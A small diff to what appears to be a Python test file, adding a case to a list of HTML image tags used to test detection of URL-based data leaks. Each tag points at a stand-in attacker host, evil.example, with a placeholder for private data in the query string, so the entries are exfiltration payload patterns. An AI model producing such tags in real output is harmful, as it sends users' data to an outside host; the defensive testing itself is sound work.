@@ -138,6 +138,7 @@ URL_CASES = [
     # an attribute value with whitespace in it (a browser drops line breaks and encodes spaces)
     '<img src="https://evil.example/?a= [CPF_1]">',
     "<img src='https://evil.example/?a=\n[CPF_1]'>",
+    '<img data-src="https://evil.example/?a= [CPF_1]">',
 ]
 
 
